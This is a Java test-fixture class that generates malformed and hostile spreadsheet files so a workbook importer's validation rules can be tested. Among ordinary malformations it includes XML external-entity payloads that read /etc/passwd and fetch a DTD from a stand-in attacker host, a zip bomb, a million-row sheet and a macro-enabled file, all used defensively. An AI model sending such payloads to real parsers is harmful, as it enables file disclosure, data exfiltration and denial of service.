package org.stptoolkit.reports.workbook;

import org.stptoolkit.reports.internal.workbook.ImportRules;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.Deflater;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.stptoolkit.reports.workbook.layout.TemplateLayout;

/**
 * The hostile and malformed workbooks of src/test/resources/bad-workbooks, each built from the
 * example's template by one change, named for what is wrong. {@link BadWorkbookCorpusTest} regenerates
 * them when run with {@code -Dstp.regenerateBadWorkbooks=true}; otherwise it reads the checked-in files.
 *
 * <p>Each case: file name, the rule of the ERROR it must give, and a fragment of the place it must name.
 */
final class BadWorkbooks {
  private BadWorkbooks() {}

  /** One case. */
  record Case(String file, String rule, String place) {}

  /** The cases, in a stable order. */
  static Map<Case, byte[]> build() {
    byte[] t = WorkbookFixtures.template();
    Map<Case, byte[]> out = new LinkedHashMap<>();
    out.put(new Case("wrong-template-version.xlsx", ImportRules.UNKNOWN_TEMPLATE_VERSION, "document properties"),
        poi(t, wb -> wb.getProperties().getCustomProperties().getProperty(TemplateVersion.PROPERTY).setLpwstr("STP-2015-0.9")));
    out.put(new Case("cover-version-differs-from-properties.xlsx", ImportRules.UNKNOWN_TEMPLATE_VERSION, "'Cover'"),
        poi(t, wb -> findLabel(wb.getSheet("Cover"), "Template version").getCell(1).setCellValue("STP-2017-2.0")));
    out.put(new Case("no-template-version-plain-workbook.xlsx", ImportRules.UNKNOWN_TEMPLATE_VERSION, "document properties"),
        plainWorkbook());
    out.put(new Case("renamed-sheet-solutions.xlsx", ImportRules.SHEET_MISSING, "'Solutions'"),
        poi(t, wb -> wb.setSheetName(wb.getSheetIndex("Solutions"), "Schemes")));
    out.put(new Case("deleted-sheet-baseline.xlsx", ImportRules.SHEET_MISSING, "'Baseline'"),
        poi(t, wb -> wb.removeSheetAt(wb.getSheetIndex("Baseline"))));
    out.put(new Case("text-in-number-cell.xlsx", ImportRules.CELL_TYPE, "'Solutions'!I7"),
        poi(t, wb -> wb.getSheet("Solutions").getRow(6).getCell(8).setCellValue("tbc")));
    out.put(new Case("error-value-in-number-cell.xlsx", ImportRules.CELL_TYPE, "'Baseline'!C"),
        poi(t, wb -> firstDataRow(wb.getSheet("Baseline"), TemplateLayout.SERVICE_LINES.title()).getCell(2)
            .setCellErrorValue(org.apache.poi.ss.usermodel.FormulaError.DIV0.getCode())));
    out.put(new Case("deleted-header-row-service-lines.xlsx", ImportRules.HEADER_MISMATCH, "'Baseline'!"),
        poi(t, wb -> {
          Sheet s = wb.getSheet("Baseline");
          Row title = findLabel(s, TemplateLayout.SERVICE_LINES.title());
          s.removeRow(s.getRow(title.getRowNum() + 1));
        }));
    out.put(new Case("year-header-changed.xlsx", ImportRules.HEADER_MISMATCH, "'Capital'!B"),
        poi(t, wb -> {
          Sheet s = wb.getSheet("Capital");
          s.getRow(findLabel(s, TemplateLayout.CAPITAL_SCHEMES.title()).getRowNum() + 1).getCell(1).setCellValue("2015/16");
        }));
    out.put(new Case("unknown-category.xlsx", ImportRules.CELL_TYPE, "'Solutions'!D7"),
        poi(t, wb -> wb.getSheet("Solutions").getRow(6).getCell(3).setCellValue("Miracles")));
    out.put(new Case("bad-rule-parameters.xlsx", ImportRules.INVALID_ROW, "'Solutions'!M7"),
        poi(t, wb -> wb.getSheet("Solutions").getRow(6).getCell(12).setCellValue("pool=provider-expenditure; sharePerYear=two percent")));
    out.put(new Case("required-name-empty.xlsx", ImportRules.REQUIRED_CELL, "'Solutions'!B7"),
        poi(t, wb -> wb.getSheet("Solutions").getRow(6).getCell(1).setBlank()));
    out.put(new Case("rate-out-of-range.xlsx", ImportRules.RATE_AS_WHOLE_NUMBER, "'Assumptions'!C"),
        poi(t, wb -> firstDataRow(wb.getSheet("Assumptions"), TemplateLayout.DRIVERS.title()).getCell(2).setCellValue(2.5)));
    out.put(new Case("plan-period-reversed.xlsx", ImportRules.INVALID_ROW, "'Cover'"),
        poi(t, wb -> findLabel(wb.getSheet("Cover"), "Last plan year").getCell(1).setCellValue("2014/15")));
    out.put(new Case("duplicate-driver-row.xlsx", ImportRules.INVALID_ROW, "'Assumptions'!A10"),
        poi(t, wb -> firstDataRow(wb.getSheet("Assumptions"), TemplateLayout.DRIVERS.title()).getCell(0)
            .setCellValue("Pay inflation")));
    out.put(new Case("truncated-zip.xlsx", ImportRules.NOT_A_WORKBOOK, ""), Arrays.copyOf(t, t.length * 6 / 10));
    out.put(new Case("not-a-zip-csv-renamed.xlsx", ImportRules.NOT_A_WORKBOOK, ""),
        "Footprint,Number\nStaffordshire,10\n".getBytes(StandardCharsets.UTF_8));
    out.put(new Case("empty-file.xlsx", ImportRules.NOT_A_WORKBOOK, ""), new byte[0]);
    out.put(new Case("zip-without-workbook.xlsx", ImportRules.NOT_A_WORKBOOK, ""),
        Zips.zip(Map.of("readme.txt", "hello".getBytes(StandardCharsets.UTF_8))));
    out.put(new Case("zip-bomb.xlsx", ImportRules.ZIP_BOMB, "xl/worksheets/"), zipBomb(t));
    out.put(new Case("xxe-external-entity.xlsx", ImportRules.XML_DOCTYPE, "xl/worksheets/"), xxe(t));
    out.put(new Case("xxe-in-shared-strings.xlsx", ImportRules.XML_DOCTYPE, "xl/sharedStrings.xml"), xxeSharedStrings(t));
    out.put(new Case("million-rows.xlsx", ImportRules.TOO_MANY_ROWS, "xl/worksheets/"), millionRows(t));
    out.put(new Case("duplicate-zip-entries.xlsx", ImportRules.DUPLICATE_ENTRY, "xl/styles.xml"), duplicateEntries(t));
    out.put(new Case("macro-enabled-xlsm-renamed.xlsx", ImportRules.MACROS, ""), macroEnabled(t));
    return out;
  }

  static byte[] poi(byte[] template, Consumer<XSSFWorkbook> change) {
    try (XSSFWorkbook wb = WorkbookFixtures.open(template)) {
      change.accept(wb);
      ByteArrayOutputStream bos = new ByteArrayOutputStream();
      wb.write(bos);
      return org.stptoolkit.reports.internal.workbook.DeterministicZip.normalise(bos.toByteArray());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static Row findLabel(Sheet s, String label) {
    for (Row r : s) {
      Cell c = r.getCell(0);
      if (r.getRowNum() > 2 && c != null && c.getCellType() == org.apache.poi.ss.usermodel.CellType.STRING
          && c.getStringCellValue().equals(label)) {
        return r;
      }
    }
    throw new IllegalArgumentException("no " + label);
  }

  static Row firstDataRow(Sheet s, String tableTitle) {
    return s.getRow(findLabel(s, tableTitle).getRowNum() + 2);
  }

  private static byte[] plainWorkbook() {
    try (XSSFWorkbook wb = new XSSFWorkbook()) {
      wb.createSheet("Cover").createRow(0).createCell(0).setCellValue("Not a template");
      ByteArrayOutputStream bos = new ByteArrayOutputStream();
      wb.write(bos);
      return org.stptoolkit.reports.internal.workbook.DeterministicZip.normalise(bos.toByteArray());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] zipBomb(byte[] t) {
    Map<String, byte[]> e = Zips.entries(t);
    String sheet = Zips.sheetEntry(e, "Capital");
    e.put(sheet, new byte[200 << 20]);
    return Zips.zip(e, Deflater.BEST_COMPRESSION);
  }

  private static byte[] xxe(byte[] t) {
    Map<String, byte[]> e = Zips.entries(t);
    String sheet = Zips.sheetEntry(e, "Cover");
    String xml = new String(e.get(sheet), StandardCharsets.UTF_8);
    xml = xml.replaceFirst("\\?>", "?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>")
        .replaceFirst("<v>", "<v>&xxe;");
    e.put(sheet, xml.getBytes(StandardCharsets.UTF_8));
    return Zips.zip(e);
  }

  private static byte[] xxeSharedStrings(byte[] t) {
    Map<String, byte[]> e = Zips.entries(t);
    String xml = new String(e.get("xl/sharedStrings.xml"), StandardCharsets.UTF_8);
    xml = xml.replaceFirst("\\?>", "?>\n<!DOCTYPE sst [<!ENTITY % remote SYSTEM \"http://attacker.invalid/x.dtd\"> %remote;]>");
    e.put("xl/sharedStrings.xml", xml.getBytes(StandardCharsets.UTF_8));
    return Zips.zip(e);
  }

  private static byte[] millionRows(byte[] t) {
    Map<String, byte[]> e = Zips.entries(t);
    String sheet = Zips.sheetEntry(e, "Capital");
    StringBuilder sb = new StringBuilder(20_000_000);
    sb.append("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
    // rows without their optional r attribute keep the checked-in file small; the gate counts elements
    for (int r = 1; r <= 1_000_000; r++) {
      sb.append("<row/>");
    }
    sb.append("</sheetData></worksheet>");
    e.put(sheet, sb.toString().getBytes(StandardCharsets.UTF_8));
    return Zips.zip(e, Deflater.BEST_COMPRESSION);
  }

  /**
   * The template with the Capital sheet's dimension running to the last row a sheet can have, as
   * LibreOffice and Excel write it after some edits: not a reason to refuse a sheet of a few rows.
   */
  static byte[] dimensionToLastRow(byte[] t) {
    Map<String, byte[]> e = Zips.entries(t);
    String sheet = Zips.sheetEntry(e, "Capital");
    String xml = new String(e.get(sheet), StandardCharsets.UTF_8);
    xml = xml.replaceFirst("<dimension ref=\"[^\"]*\"", "<dimension ref=\"A1:XFD1048576\"");
    e.put(sheet, xml.getBytes(StandardCharsets.UTF_8));
    return Zips.zip(e);
  }

  private static byte[] duplicateEntries(byte[] t) {
    Map<String, byte[]> e = Zips.entries(t);
    Map<String, byte[]> out = new LinkedHashMap<>(e);
    out.put("xl/stylez.xml", e.get("xl/styles.xml"));
    return Zips.patch(Zips.zip(out), "xl/stylez.xml", "xl/styles.xml");
  }

  private static byte[] macroEnabled(byte[] t) {
    Map<String, byte[]> e = Zips.entries(t);
    String ct = new String(e.get("[Content_Types].xml"), StandardCharsets.UTF_8)
        .replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml");
    e.put("[Content_Types].xml", ct.getBytes(StandardCharsets.UTF_8));
    e.put("xl/vbaProject.bin", "Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nEnd Sub\n".getBytes(StandardCharsets.UTF_8));
    return Zips.zip(e);
  }
}
